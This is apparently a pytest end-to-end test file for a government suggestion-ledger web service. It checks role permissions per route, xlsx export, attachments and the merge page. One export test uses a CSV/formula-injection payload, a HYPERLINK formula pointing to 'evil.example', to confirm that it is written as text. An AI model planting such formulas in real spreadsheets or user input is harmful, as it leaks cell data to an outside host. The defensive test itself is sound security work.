"""Each role against each observers' endpoint over real HTTP: only what the role may do succeeds.

``MATRIX`` is the table (method, path) → roles allowed; every other role is refused (401 without
a sign-in, 403 or 404 otherwise) and changes nothing. ``SETUP`` says what each route needs to
exist first. The requests run at today's date, so deadlines are counted from today.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from observer_helpers import ZONE, build_zone
from openpyxl import load_workbook

from factories import PASSWORD, tiny_png
from live import LiveServer
from yima.accounts.service import add_user
from yima.clock import local_date, utcnow
from yima.observers import rules, service, views
from yima.observers.calendar import official_calendar
from yima.observers.spreadsheet import HEADERS

pytestmark = [pytest.mark.db, pytest.mark.e2e]
PNG = tiny_png()

ROLES = ("anonymous", "applicant", "officer", "admin", "observer", "reform_office", "department")
LEDGER_READERS = {"admin", "observer", "reform_office", "department"}
OFFICE = {"reform_office"}
MATRIX: dict[tuple[str, str], set[str]] = {
    ("POST", "/api/v1/observers"): {"admin", "reform_office"},
    ("GET", "/api/v1/observers?zone=gz-kfq"): {"admin", "reform_office"},
    ("GET", "/api/v1/suggestions/departments?zone=gz-kfq"): LEDGER_READERS,
    ("POST", "/api/v1/suggestions/departments"): {"admin", "reform_office"},
    ("POST", "/api/v1/suggestions/departments/{department_id}/members"): {"admin", "reform_office"},
    ("POST", "/api/v1/suggestions"): {"observer"},
    ("GET", "/api/v1/suggestions"): LEDGER_READERS,
    ("GET", "/api/v1/suggestions/ledger.xlsx"): LEDGER_READERS,
    ("GET", "/api/v1/suggestions/reminders"): LEDGER_READERS,
    ("GET", "/api/v1/suggestions/{suggestion_id}"): LEDGER_READERS,
    ("POST", "/api/v1/suggestions/{suggestion_id}/attachments"): {"observer"},
    ("GET", "/api/v1/suggestions/{suggestion_id}/attachments/{attachment_id}"): LEDGER_READERS,
    ("POST", "/api/v1/suggestions/{suggestion_id}/accept"): OFFICE,
    ("POST", "/api/v1/suggestions/{suggestion_id}/merge"): OFFICE,
    ("POST", "/api/v1/suggestions/{suggestion_id}/assign"): OFFICE,
    ("PUT", "/api/v1/suggestions/{suggestion_id}/reply"): {"department"},
    ("POST", "/api/v1/suggestions/{suggestion_id}/reply/publish"): {"department"},
    ("POST", "/api/v1/suggestions/{suggestion_id}/extension"): {"department"},
    ("POST", "/api/v1/suggestions/{suggestion_id}/extension/decision"): OFFICE,
    ("POST", "/api/v1/suggestions/{suggestion_id}/rating"): {"observer"},
}
# What each route needs first: the suggestion's state ("" for none) and the request's body.
SETUP: dict[tuple[str, str], tuple[str, dict[str, Any] | None]] = {
    ("POST", "/api/v1/observers"): ("", {"zone": ZONE, "name": "王观察", "sector": "media",
                                         "term_from": "2025-01-01", "term_to": "2030-12-31"}),
    ("POST", "/api/v1/suggestions/departments"): ("", {"zone": ZONE, "name": "区人社局"}),
    ("POST", "/api/v1/suggestions/departments/{department_id}/members"): ("", {"username": "tax"}),
    ("POST", "/api/v1/suggestions"): ("", {"title": "融资对接会", "text": "每季度一次。", "category": "finance"}),
    ("GET", "/api/v1/suggestions/{suggestion_id}"): ("assigned", None),
    ("POST", "/api/v1/suggestions/{suggestion_id}/attachments"): ("submitted", None),
    ("GET", "/api/v1/suggestions/{suggestion_id}/attachments/{attachment_id}"): ("assigned", None),
    ("POST", "/api/v1/suggestions/{suggestion_id}/accept"): ("submitted", None),
    ("POST", "/api/v1/suggestions/{suggestion_id}/merge"): ("mergeable", {"into": "{earlier}"}),
    ("POST", "/api/v1/suggestions/{suggestion_id}/assign"): ("accepted", {"department_id": "{department_id}",
                                                                         "working_days": 3}),
    ("PUT", "/api/v1/suggestions/{suggestion_id}/reply"): ("assigned", {"text": "正在研究。"}),
    ("POST", "/api/v1/suggestions/{suggestion_id}/reply/publish"): ("drafted", None),
    ("POST", "/api/v1/suggestions/{suggestion_id}/extension"): ("assigned", {"working_days": 2, "reason": "需协调"}),
    ("POST", "/api/v1/suggestions/{suggestion_id}/extension/decision"): ("requested", {"grant": True}),
    ("POST", "/api/v1/suggestions/{suggestion_id}/rating"): ("replied", {"rating": "satisfied", "comment": ""}),
}
USERS = {"applicant": "alice", "officer": "officer-cq", "admin": "admin", "observer": "observer-gz-kfq-001",
         "reform_office": "office", "department": "market"}


def prepare(db, gz, state: str) -> dict[str, Any]:
    """A suggestion of the observer xie, brought to ``state`` today, assigned to the market bureau."""
    now = utcnow()
    ids: dict[str, Any] = {"department_id": gz.tax_id if state == "" else gz.market_id}
    if not state:
        return ids
    if state == "mergeable":
        ids["earlier"] = service.submit(db, gz.xie, "更早的建议", "内容。", "registration", now)
        service.accept(db, gz.office, ids["earlier"], now)
    sid = service.submit(db, gz.xie, "刻章跑现场", "建议电子印章。", "registration", now,
                         uploads=[service.Upload("照片.png", PNG)], data_dir=gz.data_dir, max_bytes=10_000)
    ids["suggestion_id"] = sid
    ids["attachment_id"] = views.get_suggestion(db, gz.xie, sid, now).attachments[0].id
    if state in ("submitted", "mergeable"):
        return ids
    service.accept(db, gz.office, sid, now)
    if state == "accepted":
        return ids
    service.assign(db, gz.office, sid, gz.market_id, 5, now)
    if state == "requested":
        service.request_extension(db, gz.market, sid, 2, "需协调", now)
    if state in ("drafted", "replied"):
        service.save_draft(db, gz.market, sid, "已办理。", now)
    if state == "replied":
        service.publish_reply(db, gz.market, sid, now)
    return ids


def _fill(value: Any, ids: dict[str, Any]) -> Any:
    if isinstance(value, str) and value.startswith("{"):
        return ids[value.strip("{}")]
    return value


@pytest.fixture
def gz(db, people, tmp_path):
    zone = build_zone(db, utcnow())
    with LiveServer(db, tmp_path / "data") as live:
        zone.server, zone.data_dir = live, tmp_path / "data"  # type: ignore[attr-defined]
        yield zone


def _steps(db, gz, ids) -> int | None:
    if "suggestion_id" not in ids:
        return None
    return len(views.get_suggestion(db, gz.office, ids["suggestion_id"], utcnow()).steps)


@pytest.mark.parametrize("route", list(MATRIX), ids=[f"{m} {p}" for m, p in MATRIX])
def test_each_role_may_do_only_what_the_matrix_allows(db, gz, route):
    method, path = route
    state, body = SETUP.get(route, ("", None))
    clients = {role: gz.server.client(None if role == "anonymous" else USERS[role]) for role in ROLES}
    try:
        outcomes = {}
        ids: dict[str, Any] | None = None
        for role in ROLES:
            if ids is None:  # a refused request leaves the suggestion as it was, for the next role
                ids = prepare(db, gz, state)
            before = _steps(db, gz, ids)
            url = path.format(**ids)
            kwargs: dict[str, Any] = {}
            if body is not None:
                kwargs["json"] = {k: _fill(v, ids) for k, v in body.items()}
                if route[1] == "/api/v1/suggestions/departments":
                    kwargs["json"]["name"] = f"区人社局-{role}"
            if path.endswith("/attachments"):
                kwargs["files"] = {"file": ("补充.png", PNG, "image/png")}
            response = clients[role].request(method, url, **kwargs)
            outcomes[role] = response.status_code
            if role in MATRIX[route]:
                assert response.status_code in (200, 201, 204), (role, response.text)
                ids = ids if method == "GET" else None
            else:
                assert response.status_code == (401 if role == "anonymous" else response.status_code)
                assert response.status_code in ((401,) if role == "anonymous" else (403, 404)), (role, response.text)
                assert "message_zh" in response.text and "message_en" in response.text
                assert _steps(db, gz, ids) == before  # a refused step changes nothing
        allowed = {role for role, status in outcomes.items() if status < 300}
        assert allowed == MATRIX[route]
    finally:
        for client in clients.values():
            client.close()


def test_the_routes_show_in_openapi_with_typed_models(gz):
    with gz.server.client() as anonymous:
        spec = anonymous.get("/openapi.json").json()
    for method, path in MATRIX:
        bare = path.split("?")[0]
        assert method.lower() in spec["paths"][bare], (method, bare)
    suggestion = spec["components"]["schemas"]["SuggestionOut"]["properties"]
    assert {"due_on", "calendar", "days_left", "overdue", "replies", "rating"} <= set(suggestion)
    post = spec["paths"]["/api/v1/suggestions/{suggestion_id}/assign"]["post"]
    assert post["requestBody"]["content"]["application/json"]["schema"]["$ref"].endswith("/AssignIn")


def test_the_ledger_over_http_hides_drafts_exports_xlsx_and_refuses_an_uncovered_year(db, gz):
    ids = prepare(db, gz, "drafted")
    with gz.server.client(USERS["observer"]) as observer, gz.server.client("office") as office:
        mine = observer.get(f"/api/v1/suggestions/{ids['suggestion_id']}").json()
        assert mine["state"] == "assigned" and mine["replies"] == [] and mine["calendar"].startswith("chinese-calendar")
        assert office.get(f"/api/v1/suggestions/{ids['suggestion_id']}").json()["replies"][0]["published"] is False
        sheet = load_workbook(io.BytesIO(office.get("/api/v1/suggestions/ledger.xlsx").content))["台账"]
        assert tuple(c.value for c in sheet[2]) == HEADERS and sheet["B3"].value == "谢泽帆"
        assert "已办理" not in str(sheet["N3"].value)  # the draft is not in the ledger's 办理情况
        new = observer.post("/api/v1/suggestions", json={"title": "刻章", "text": "内容", "category": "registration"})
        office.post(f"/api/v1/suggestions/{new.json()['id']}/accept").raise_for_status()
        refused = office.post(f"/api/v1/suggestions/{new.json()['id']}/assign",
                              json={"department_id": gz.market_id, "working_days": 60})
        assert refused.status_code == 200 and refused.json()["state"] == "assigned"  # never refused
        provisional = rules.deadline(local_date(utcnow()), 60, official_calendar()).provisional
        assert refused.json()["due_provisional"] is provisional
        bad = observer.post("/api/v1/suggestions", json={"title": "x", "text": "y", "category": "weather"})
        assert bad.status_code == 422 and bad.json()["detail"][0]["rule"] == "category.value"


def test_the_stats_carry_the_observers_section(db, gz):
    prepare(db, gz, "replied")
    today = local_date(utcnow()).isoformat()
    with gz.server.client("admin") as admin:
        stats = admin.get(f"/api/v1/stats?zone={ZONE}&from={today[:4]}-01-01&to={today}")
    assert stats.status_code == 200, stats.text
    section = stats.json()["observers"]  # the section, under its name
    assert section["observers_serving"] == 2 and section["received"] == 1 and section["replied_on_time"] == 1
    assert section["on_time_pct"] == 100.0 and section["satisfied_pct"] is None


def test_anyone_else_creating_a_department_user_binding_is_checked(db, gz):
    add_user(db, "stranger", "department", PASSWORD, utcnow(), zone_id="sh-pd")
    with gz.server.client("office") as office:
        wrong = office.post(f"/api/v1/suggestions/departments/{gz.market_id}/members", json={"username": "stranger"})
    assert wrong.status_code == 422 and wrong.json()["detail"][0]["rule"] == "department.member_role"


def test_the_ledger_export_writes_a_formula_as_text_and_survives_a_control_character(db, gz):
    """A title that is a formula stays text in ledger.xlsx; a U+0001 is refused at input, and one
    stored before that rule never breaks the export (it made every later download a 500)."""
    from sqlalchemy import update

    from yima.observers.tables import Suggestion

    attack = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
    with gz.server.client(USERS["observer"]) as observer, gz.server.client("office") as office:
        made = observer.post("/api/v1/suggestions", json={"title": attack, "text": "x", "category": "finance"})
        assert made.status_code == 201
        office.post(f"/api/v1/suggestions/{made.json()['id']}/accept").raise_for_status()
        hidden = observer.post("/api/v1/suggestions", json={"title": "a\x01b", "text": "x", "category": "finance"})
        assert hidden.status_code == 422 and hidden.json()["detail"][0]["rule"] == "text.hidden_character"
        old = observer.post("/api/v1/suggestions", json={"title": "旧数据", "text": "x", "category": "finance"})
        office.post(f"/api/v1/suggestions/{old.json()['id']}/accept").raise_for_status()
        with db.write() as session:  # stored before the input rule existed
            session.execute(update(Suggestion).where(Suggestion.id == old.json()["id"]).values(title="旧\x01数据"))
        for _ in range(2):
            answer = office.get("/api/v1/suggestions/ledger.xlsx")
            assert answer.status_code == 200
            sheet = load_workbook(io.BytesIO(answer.content))["台账"]
            cells = {c.value: c for line in sheet.iter_rows() for c in line if isinstance(c.value, str)}
            formula = next(c for v, c in cells.items() if v.startswith("=HYPERLINK"))
            assert formula.data_type == "s" and formula.quotePrefix and formula.value.startswith(attack)
            assert any(v.startswith("旧\ufffd数据") for v in cells)
        raw = zipfile_texts(answer.content)
        assert "<f>" not in raw and "\x01" not in raw


def zipfile_texts(content: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_an_attachment_is_served_as_a_download_never_rendered(db, gz):
    ids = prepare(db, gz, "assigned")
    with gz.server.client(USERS["reform_office"]) as office:
        response = office.get(f"/api/v1/suggestions/{ids['suggestion_id']}/attachments/{ids['attachment_id']}")
    assert response.status_code == 200 and response.content == PNG
    assert response.headers["content-disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E7%85%A7%E7%89%87.png" in response.headers["content-disposition"]
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_office_s_page_of_a_suggestion_finds_an_earlier_one_to_merge_into(db, gz):
    """The merge card: a search field, the candidates of a bounded query, the search's answer."""
    other = service.submit(db, gz.xie, "水电报装周期长", "内容。", "utilities", utcnow())
    service.accept(db, gz.office, other, utcnow())
    ids = prepare(db, gz, "mergeable")
    with gz.server.client("office") as office:
        page = office.get(f"/suggestions/{ids['suggestion_id']}")
        assert page.status_code == 200 and 'id="merge-find"' in page.text
        assert f'<option value="{ids["earlier"]}">' in page.text and f'<option value="{other}">' in page.text
        found = office.get(f"/suggestions/{ids['suggestion_id']}", params={"find": "水电"})
        assert f'<option value="{other}">' in found.text and f'<option value="{ids["earlier"]}">' not in found.text
        assert 'value="水电"' in found.text
        none = office.get(f"/suggestions/{ids['suggestion_id']}", params={"find": "没有这样的建议"})
        assert 'id="merge-none"' in none.text and 'id="merge-form"' not in none.text


def test_the_office_s_page_says_when_more_earlier_suggestions_qualify_than_it_lists(db, gz):
    """Past ``rules.MERGE_CHOICES`` candidates the page lists that many and says so (its count
    filled into the translated sentence), with and without a search."""
    for n in range(rules.MERGE_CHOICES + 1):
        earlier = service.submit(db, gz.xie, f"刻章收费问题{n}", "内容。", "registration", utcnow())
        service.accept(db, gz.office, earlier, utcnow())
    ids = prepare(db, gz, "mergeable")
    with gz.server.client("office") as office:
        page = office.get(f"/suggestions/{ids['suggestion_id']}")
        assert page.status_code == 200 and 'id="merge-more"' in page.text
        assert f"列出同一领域优先的最新 {rules.MERGE_CHOICES} 条建议" in page.text
        assert page.text.count("<option value=") >= rules.MERGE_CHOICES
        found = office.get(f"/suggestions/{ids['suggestion_id']}", params={"find": "刻章收费问题"})
        assert found.status_code == 200 and f"仅列出最新的 {rules.MERGE_CHOICES} 条匹配结果" in found.text
